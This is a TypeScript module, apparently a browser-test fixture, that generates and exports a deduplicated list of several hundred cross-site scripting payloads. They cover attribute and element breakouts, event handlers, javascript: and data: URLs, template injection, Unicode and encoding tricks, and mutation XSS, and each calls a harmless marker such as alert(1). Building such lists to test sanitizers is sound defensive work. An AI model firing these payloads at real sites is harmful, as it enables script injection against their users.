// Texts that would run a script, were any of them taken for markup: every way out of every place, with every thing to put there.

/** What a payload runs: a dialog, or a function that a browser test listens at. */
const RUN = ['alert(1)', 'ran()', 'ran`1`', 'self.ran=1'] as const;

/** Ways out of where text stands: attributes, elements whose content is text, comments, foreign content, escapes half done. */
// biome-ignore format: a list to be read across
const WAYS_OUT = [
  '', '">', "'>", '`>', '"/>', '</title>', '</textarea>', '</script>', '</style>', '-->', '--!>', ']]>', '</bdi></p>', '</svg>',
  '</noscript>', '&quot;>', '\\">', '"><!--', '</option></select>',
];

/** Elements that run `X`. */
// biome-ignore format: a list to be read across
const ELEMENTS = [
  '<script>X</script>', '<ScRiPt>X</sCrIpT>', '<script/x>X</script\n>', '<script src=data:,X></script>', '<img src=x onerror=X>', '<img/src/onerror=X>',
  '<svg onload=X>', '<svg/onload=X//', '<svg><script>X</script></svg>', '<svg><animate onbegin=X attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:X"><text y=9>x</text></a>', '<svg><use href="data:image/svg+xml,<svg id=x onload=X>#x">', '<body onload=X>',
  '<iframe srcdoc="<script>X</script>">', '<iframe src=javascript:X>', '<details open ontoggle=X>', '<video><source onerror=X>', '<audio src=x onerror=X>',
  '<input autofocus onfocus=X>', '<marquee onstart=X>', '<object data=javascript:X>', '<embed src=javascript:X>', '<a href=javascript:X>x</a>',
  '<form action=javascript:X><button>x', '<button formaction=javascript:X>x', '<math><mi xlink:href=javascript:X>x', '<meta http-equiv=refresh content="0;url=javascript:X">',
  '<base href=//evil.example/>', '<link rel=stylesheet href=//evil.example/>', '<style onload=X>*{color:red}</style>', '<xss id=x tabindex=1 onfocus=X autofocus>',
];

/** Events of elements that pages have, for a payload that stays within its tag. */
// biome-ignore format: a list to be read across
const EVENTS = [
  'onmouseover', 'onfocus autofocus', 'onclick', 'onpointerenter', 'onanimationstart', 'oncontentvisibilityautostatechange', 'onbeforetoggle', 'oninput', 'ontransitionend', 'ONLOAD',
];

/** Addresses that run something, or lead somewhere else than they look. */
// biome-ignore format: a list to be read across
const ADDRESSES = [
  'javascript:X', 'JaVaScRiPt:X', ' javascript:X', 'java\tscript:X', 'java\nscript:X', '\u0001javascript:X', 'javascript\u003aX', 'javascript&colon;X', '&#106;avascript:X',
  '&#x6A&#x61;vascript:X', 'javascript://%0aX', 'javascript:/*--></title></style></textarea></script><svg/onload=X>', 'vbscript:X', 'data:text/html,<script>X</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', 'blob:X', 'filesystem:X', 'view-source:javascript:X', '//evil.example', '\\\\evil.example', '/\\evil.example', 'https:evil.example',
  'jar:javascript:X', 'feed:javascript:X', 'about:blank', 'ws://evil.example', 'intent://x#Intent;scheme=javascript:X;end',
];

/** Templates of software that this is not, and of the message format that it uses. */
// biome-ignore-start lint/suspicious/noTemplateCurlyInString: templates of other people's software are meant
// biome-ignore format: a list to be read across
const TEMPLATES = [
  '{{constructor.constructor("X")()}}', '${X}', '#{X}', '<%= X %>', '{%X%}', '[[${X}]]', '{{{X}}}', '@(X)', '{merchant}', '{amount}', '{0}', '{count, plural, one {<b>X</b>} other {#}}',
  "'{'X'}'", '<0>X</0>', '<b>{merchant}</b>', '{merchant, select, other {<script>X</script>}}', '$&', "$'", '$`', '$1', '$$', '%s%s%n', '%3Cscript%3EX%3C/script%3E', '\\u003cscript\\u003eX',
  '\\x3cscript>X', '&lt;script&gt;X', '&amp;lt;script&amp;gt;', '&#60;script&#62;X', '&#x3c;script&#x3e;X', '&LT;script&GT;X', '&ltscript&gtX', '&NewLine;<script>X', '&Tab;<b>', '&#0;<b>', '&notit;<b>',
];
// biome-ignore-end lint/suspicious/noTemplateCurlyInString: templates of other people's software are meant

/** Characters that parsers, encodings and readers stumble over. */
// biome-ignore format: a list to be read across
const ODDITIES = [
  '\u0000<script>X</script>', '<scr\u0000ipt>X</scr\u0000ipt>', '<\u0000script>X</script>', '<img src=x\u0000onerror=X>', '\u202e<script>X</script>', '\u2066"><svg onload=X>\u2069', '\ufeff<script>X</script>',
  '\u200b<script>X</script>', '＜script＞X＜/script＞', '\u2039script\u203aX', '\u02bascript\u02ba', '\u00ad<script>X', '+ADw-script+AD4-X+ADw-/script+AD4-', '\u001b$B<script>X', '\u001b(J<script>X',
  'ı<script>X</ſcript>', '<ſcript>X</ſcript>', '<ımg src=x onerror=X>', '\u{e003c}script\u{e003e}', '\u0085<script>X', '\u2028<script>X</script>', '\u2029";X//', '<script\u000c>X</script>', '<img\u000bsrc=x onerror=X>',
  '<svg\u00a0onload=X>', '\ufffe<b>X', '\uffff<b>X', '𝒳<script>X</script>', '%00<script>X', '\r\n<script>X</script>', '\u001f<b>', '<b\u0009onclick=X>', '<b\u000aonclick=X>', '\u007f<b>', '&#xd800;<b>',
];

/** Markup that becomes something else when it is parsed, written and parsed again. */
// biome-ignore format: a list to be read across
const MUTATIONS = [
  '<noscript><p title="</noscript><img src=x onerror=X>">', '<svg></p><style><a id="</style><img src=x onerror=X>">', '<math><mtext><table><mglyph><style><img src=x onerror=X>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=X>', '<template><s><template><s><img src=x onerror=X>', '<select><style></select><img src=x onerror=X>',
  '<table><caption><svg><title></table><img src=x onerror=X>', '<!--><img src=x onerror=X>-->', '<!-- --!><img src=x onerror=X>', '<![CDATA[><img src=x onerror=X>]]>', '<?xml ><img src=x onerror=X>?>',
  '<!doctype x [<!entity y "<svg onload=X>">]>', '<textarea><title></textarea><img src=x onerror=X>', '<xmp></xmp><img src=x onerror=X>', '<plaintext><img src=x onerror=X>', '<listing>&lt;img src=x onerror=X&gt;</listing>',
  '<a title="`onmouseover=X `">', '<b <script>X</script>', '<<script>X//<</script>', '<img """><script>X</script>">', '<div id="x><script>X</script>', '</p><p id=main>', '<frameset onload=X>', '<html onclick=X>',
  '<svg><desc><![CDATA[</desc><script>X</script>]]>', '<style><!--</style><script>X//--></script>', '<script>/*</script><svg/onload=X>*/', '<slot onslotchange=X>', '<dialog open oncancel=X>', '<object><param name=x value=javascript:X>',
];

function* all(): Generator<string> {
  for (const out of WAYS_OUT) for (const element of ELEMENTS) yield out + element;
  for (const quote of ['"', "'", '', '`', '&quot;', '\\"'])
    for (const event of EVENTS) yield `x${quote} ${event}=X ${quote && `x=${quote}`}`;
  for (const address of ADDRESSES) {
    yield address;
    yield `"><a href="${address}">x</a>`;
  }
  yield* TEMPLATES;
  yield* ODDITIES;
  yield* MUTATIONS;
}

/** Every payload, each once, in the same order always; each runs one of the ways of `RUN`. */
export const XSS_PAYLOADS: readonly string[] = [
  ...new Set([...all()].map((text, index) => text.replaceAll('X', RUN[index % RUN.length]!))),
];
